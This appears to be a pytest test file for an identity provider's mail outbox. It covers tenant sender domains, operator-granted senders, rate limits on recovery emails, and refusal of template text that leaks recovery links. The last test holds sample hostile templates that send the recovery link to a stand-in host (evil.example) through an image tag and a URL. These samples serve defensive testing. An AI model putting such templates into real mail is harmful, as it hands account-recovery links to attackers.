"""A tenant sends in its own name or in the operator's, within limits, and no text gives a link away."""

from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.management import CommandError, call_command
from pytest_django import Settings

from blueprints.files.apply import apply
from idp.accounts.models import Person, RecoveryLink
from idp.outbox import tasks
from idp.outbox.models import Delivery, MailTemplate
from idp.tenancy.models import Tenant
from idp.tenancy.scope import tenant_scope
from tests.idp.outbox.mailserver import MailServer
from tests.support.client import Doors
from tests.web.api.conftest import Program, mint
from tests.web.console.signed_in import installed, posted, signed_in, text

OWN = {"subject": "S", "text": "T {{ link }}", "html": "<p>{{ link }}</p>"}


def mailed(program: Program, person: str = "bob") -> Any:
    """The response to the button."""
    return program("POST", f"people/{person}/recovery-mail")


@pytest.mark.parametrize(
    ("sender", "seen"),
    [
        ("login@acme.test", "login@acme.test"),
        ("login@eu.acme.test", "login@eu.acme.test"),
        ("security@other.test", "foyer@localhost"),
        ("security@bank.example", "foyer@localhost"),
        ("login@notacme.test", "foyer@localhost"),
        ("login@login.acme.example", "foyer@localhost"),
    ],
)
@pytest.mark.parametrize("role", ["owner", "admin"])
def test_a_tenant_sends_from_its_own_domains(
    acme: Tenant, door: Doors, mail_server: MailServer, role: str, sender: str, seen: str
) -> None:
    """Any other address becomes the reply address, and the operator is the sender.

    A domain that only waits for approval is not the tenant's.
    """
    program = Program(mint(role))
    wanted = {"mail_from": sender, "domains": ["acme.test", "*.acme.test", "login.acme.example"]}
    assert program("PATCH", "branding", wanted).status_code == 200
    assert mailed(program).status_code == 200
    tasks.deliver_outbox()
    (arrived,) = mail_server.mails
    assert (arrived.sender, str(arrived.message["From"])) == (seen, f"Acme <{seen}>")
    assert str(arrived.message["Reply-To"]) == (sender if seen != sender else "None")
    assert ("This is the case now." in text(signed_in(door, "auditor"), "/console/branding/")) is (
        seen != sender
    )


def test_the_operator_grants_a_sender(
    acme: Tenant, mail_server: MailServer, write_blueprint: Callable[..., Path]
) -> None:
    """A file of the operator's that names the sender grants it, also one that was requested before.

    Another one that is requested later is not granted with it.
    """
    program, file = Program(mint("admin")), write_blueprint("tenant: acme\nmail_from: login@acme.example\n")
    program("PATCH", "branding", {"mail_from": "login@acme.example"})
    assert [apply([file]).counts["update"] for _ in range(2)] == [1, 0]
    mailed(program)
    program("PATCH", "branding", {"title": "Acme, Inc."})
    mailed(program)
    program("PATCH", "branding", {"mail_from": "security@bank.example"})
    mailed(program)
    senders = []
    for _ in range(3):
        tasks.deliver_outbox()
        senders = [arrived.sender for arrived in mail_server.mails]
    assert senders == ["foyer@localhost"] * 3, "the sender is that of the moment of sending"
    apply([file])
    mailed(program, "alice")
    tasks.deliver_outbox()
    assert mail_server.mails[-1].sender == "login@acme.example"


def test_the_owner_of_the_installation_sends_from_anywhere(
    tenants: dict[str, Tenant], mail_server: MailServer, settings: Settings
) -> None:
    """Their own tenant is the installation."""
    with tenant_scope(installed()):
        Person.objects.create(username="bob", email="bob@acme.test")
        owner, admin = (Program(mint(role, host="localhost"), "localhost") for role in ("owner", "admin"))
    assert owner("PATCH", "branding", {"mail_from": "login@foyer.example"}).status_code == 200
    mailed(owner)
    tasks.deliver_outbox()
    settings.DEFAULT_HOSTS = frozenset({"localhost", "*.foyer.example"})
    for sender in ("login@bank.example", "login@mail.foyer.example"):
        assert admin("PATCH", "branding", {"mail_from": sender}).status_code == 200
        mailed(owner)
        tasks.deliver_outbox()
    seen = [arrived.sender for arrived in mail_server.mails]
    assert seen == ["login@foyer.example", "foyer@localhost", "login@mail.foyer.example"]


def test_three_mails_an_hour_to_one_address(
    acme: Tenant, other: Tenant, door: Doors, clock: time_machine.Traveller
) -> None:
    """The fourth is refused with the time to wait, by every door.

    An older link stays good, and another tenant counts for itself.
    """
    program = Program(mint("admin"))
    assert [mailed(program).status_code for _ in range(4)] == [200, 200, 200, 429]
    assert 3000 < int(mailed(program)["Retry-After"]) <= 3600
    assert RecoveryLink.objects.filter(used_at=None).count() == 1
    assert Delivery.objects.count() == 3
    browser = signed_in(door, "admin")
    posted(browser, "/console/people/mail/bob", {})
    assert "Too many emails" in text(browser, "/console/people/help/bob")
    with pytest.raises(CommandError, match="Too many emails"):
        call_command("person", "recovery-link", "bob", "--tenant", "acme", "--mail")
    Person.objects.filter(username="alice").update(email="BOB@acme.test", role="")
    assert mailed(program, "alice").status_code == 429, "one address, for every person who has it"
    with tenant_scope(other):
        assert mailed(Program(mint("admin", host="other.test"), "other.test")).status_code == 200
    clock.shift(timedelta(hours=1))
    assert mailed(Program(mint("admin"))).status_code == 200


def test_so_many_mails_a_day_from_one_tenant(acme: Tenant, settings: Settings) -> None:
    """To any recipient."""
    settings.MAILS_PER_DAY, program = 2, Program(mint("admin"))
    for name in ("one", "two", "three"):
        Person.objects.create(username=name, email=f"{name}@acme.test")
    assert [mailed(program, name).status_code for name in ("one", "two", "three")] == [200, 200, 429]


@pytest.mark.parametrize(
    "wording",
    [
        {"html": '<img src="https://evil.example/?u={{ link }}">'},
        {"text": "https://evil.example/?u={{ link }}"},
    ],
)
def test_no_door_takes_a_wording_that_gives_the_link_away(
    acme: Tenant,
    door: Doors,
    mail_server: MailServer,
    write_blueprint: Callable[..., Path],
    wording: dict[str, str],
) -> None:
    """API, console and blueprint refuse it.

    A text that was stored before is not sent; the shipped one is.
    """
    program, bad = Program(mint("admin")), {**OWN, **wording}
    assert program("PUT", "mails/recovery", bad).status_code == 409
    posted(signed_in(door, "admin"), "/console/mails/recovery", dict(bad), status=400)
    sent = "mail: recovery\n" + "".join(f"{part}: '{said}'\n" for part, said in bad.items())
    assert program("POST", "blueprints/apply", {"text": sent}).status_code == 400
    MailTemplate.objects.create(name="recovery", **bad)
    mailed(program)
    tasks.deliver_outbox()
    (arrived,) = mail_server.mails
    assert str(arrived.message["Subject"]) == "Set a new password for Acme"
    assert "evil" not in arrived.part("html") + arrived.part()
